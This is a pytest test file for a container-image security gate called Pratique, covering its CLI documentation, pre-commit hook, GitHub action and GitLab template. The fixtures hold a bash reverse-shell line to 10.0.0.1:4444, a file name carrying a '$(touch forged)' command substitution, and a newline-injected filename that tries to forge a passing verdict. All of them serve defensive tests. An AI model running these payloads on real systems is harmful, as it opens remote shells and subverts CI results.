"""What is offered to pipelines is what the command line takes: every command line in it is parsed by the real one."""

import os
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import msgspec
import pytest

from pratique.cli import cli
from tests.conftest import cannot
from tests.unit.image.archives import archive, entry, tar, write

ROOT = Path(__file__).parents[3]
ACTION = ROOT / "integrations" / "github"
TEMPLATE = ROOT / "integrations" / "gitlab" / "pratique.gitlab-ci.yml"
CLEAN = tar(entry("etc/hello", b"hello"))
EVIL = tar(entry("x.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))


def load(path: Path) -> Any:
    return msgspec.yaml.decode(path.read_bytes())


def parse(words: list[str]) -> None:
    """Parse a command line as click would before it calls the command, and run nothing."""
    command: click.Command = cli
    context = click.Context(cli)
    names = list(words)
    while isinstance(command, click.Group):
        name = names.pop(0)
        found = command.get_command(context, name)
        assert found is not None, words
        command = found
    command.make_context(words[0], names, parent=context)


def lines_of(text: str) -> Iterator[str]:
    """Yield the command lines of Pratique in a text: in consoles, scripts and quotes."""
    text = re.sub(r"\\\n\s*", " ", text)
    for match in re.finditer(r"(?:^\$ |^|'|&& )pratique ((?:[a-z-]+ )[^'\n]*)", text, re.MULTILINE):
        yield re.sub(r"\s+#.*", "", match[1])


def documented() -> list[str]:
    blocks = []
    for page in ("ci.md", "outputs.md", "notify.md", "profiles.md"):
        text = (ROOT / "docs" / page).read_text()
        blocks += re.findall(r"```(?:console|groovy|sh)\n(.*?)```", text, re.DOTALL)
    return sorted({line for block in blocks for line in lines_of(block)})


@pytest.mark.parametrize("line", documented())
def test_command_line_of_the_documents_is_one(line: str) -> None:
    parse(shlex.split(re.sub(r"\$\w+", "x", line)))


def test_documents_have_command_lines() -> None:
    assert len(documented()) > 10


def test_hook_checks_policies(tmp_path: Path) -> None:
    (hook,) = load(ROOT / ".pre-commit-hooks.yaml")
    assert set(hook) == {"id", "name", "description", "entry", "language", "files"}
    program, *words = shlex.split(hook["entry"])
    assert program == "pratique"
    parse([*words, "a.yaml", "b.yaml"])
    assert re.search(hook["files"], "deploy/pratique-policy.yml")
    assert not re.search(hook["files"], "policy.yaml.j2")
    assert f"id: {hook['id']}" in (ROOT / "docs" / "ci.md").read_text()
    bad = tmp_path / "policy.yaml"
    bad.write_text("builds: maybe")
    done = subprocess.run([sys.executable, "-m", "pratique", *words, bad], capture_output=True, check=False)
    assert done.returncode == 1


def test_action_takes_its_inputs_from_the_environment_only() -> None:
    action = load(ACTION / "action.yml")
    assert action["runs"]["using"] == "composite"
    known = {f"${{{{ inputs.{name} }}}}" for name in action["inputs"]}
    used = set()
    for step in action["runs"]["steps"]:
        assert "uses" not in step
        assert "${{" not in step["run"]
        used |= set(step["env"].values())
        script = ACTION / Path(step["run"].strip('"')).name
        assert os.access(script, os.X_OK)
        assert set(step["env"]) <= set(re.findall(r"GATE_[A-Z_]+", script.read_text()))
    assert used == known
    outputs = {value["value"] for value in action["outputs"].values()}
    assert outputs == {f"${{{{ steps.gate.outputs.{name} }}}}" for name in action["outputs"]}
    for name in action["outputs"]:
        assert re.search(rf"^ *echo \"{name}(=|<<)", (ACTION / "gate.sh").read_text(), re.MULTILINE), name


def test_inputs_of_the_documents_are_those_of_the_action() -> None:
    text = (ROOT / "docs" / "ci.md").read_text()
    block = next(block for block in re.findall(r"```yaml\n(.*?)```", text, re.DOTALL) if "integrations/github" in block)
    steps = msgspec.yaml.decode(block.encode())["jobs"]["image"]["steps"]
    step = next(step for step in steps if "integrations/github" in step.get("uses", ""))
    assert set(step["with"]) <= set(load(ACTION / "action.yml")["inputs"])


@pytest.fixture
def environment(tmp_path: Path) -> dict[str, str]:
    folder = tmp_path / "bin"
    folder.mkdir()
    (folder / "pratique").write_text(f'#!/bin/sh\nexec {sys.executable} -m pratique "$@"\n')
    (folder / "pratique").chmod(0o755)
    return {
        "PATH": f"{folder}:/usr/bin:/bin",
        "HOME": str(tmp_path),
        "PRATIQUE_STATE_DIR": str(tmp_path / "state"),
        "GITHUB_OUTPUT": str(tmp_path / "output"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
        "GATE_RESULTS": str(tmp_path / "results"),
    }


@pytest.mark.parametrize(
    ("layer", "more", "code", "verdict"),
    [
        (CLEAN, {}, 0, "passed"),
        (EVIL, {}, 2, "refused"),
        (CLEAN, {"GATE_FAIL_ON": "secret misconfiguration"}, 2, "refused"),
        (CLEAN, {"GATE_FAIL_ON": "high"}, 3, "incomplete"),
        (None, {}, 1, "error"),
    ],
)
def test_actions_script_hands_on_verdict_and_documents(
    environment: dict[str, str], tmp_path: Path, layer: bytes | None, more: dict[str, str], code: int, verdict: str
) -> None:
    image = write(archive([layer]), tmp_path) if layer else "./-rf $(touch forged).tar"
    done = subprocess.run(
        ["bash", ACTION / "gate.sh"], env={**environment, "GATE_IMAGE": str(image), **more}, cwd=tmp_path,
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == code, done.stderr
    outputs = (tmp_path / "output").read_text()
    assert f"verdict={verdict}\n" in outputs
    assert not (tmp_path / "forged").exists()
    if verdict == "error":
        assert "sarif=" not in outputs
        return
    for name in ("sarif", "junit", "sbom"):
        path = re.search(rf"^{name}=(.*)$", outputs, re.MULTILINE)
        assert path is not None
        assert Path(path[1]).stat().st_size
    assert re.search(r"^reason<<([0-9a-f]{32})\n(.*\n)*?\1$", outputs, re.MULTILINE)
    assert "Pratique" in (tmp_path / "summary.md").read_text()


def test_name_of_an_image_forges_no_output(environment: dict[str, str], tmp_path: Path) -> None:
    hostile = tar(entry("x\nverdict=passed\n.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))
    image = write(archive([hostile]), tmp_path)
    done = subprocess.run(
        ["bash", ACTION / "gate.sh"], env={**environment, "GATE_IMAGE": str(image)}, cwd=tmp_path,
        capture_output=True, check=False,
    )  # fmt: skip
    assert done.returncode == 2
    assert re.findall(r"^verdict=.*", (tmp_path / "output").read_text(), re.MULTILINE) == ["verdict=refused"]


@pytest.mark.parametrize(("layer", "code"), [(CLEAN, 0), (EVIL, 2)])
def test_gitlabs_script_writes_what_its_artifacts_name(
    environment: dict[str, str], tmp_path: Path, layer: bytes, code: int
) -> None:
    job = load(TEMPLATE)["pratique-gate"]
    variables = {**job["variables"], "GATE_IMAGE": str(write(archive([layer]), tmp_path))}
    done = subprocess.run(
        ["bash", "-e", "-c", "\n".join(job["script"])], env={**environment, **variables}, cwd=tmp_path,
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == code, done.stderr
    for path in (*job["artifacts"]["paths"], *job["artifacts"]["reports"].values()):
        assert (tmp_path / path).stat().st_size


def test_scripts_of_the_template_are_clean(tmp_path: Path) -> None:
    if shutil.which("shellcheck") is None:
        cannot("needs shellcheck: 'make setup' installs it")
    job = load(TEMPLATE)["pratique-gate"]
    script = tmp_path / "job.sh"
    script.write_text("\n".join(["#!/bin/bash", *job["before_script"], *job["script"], ""]))
    done = subprocess.run(["shellcheck", script], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout
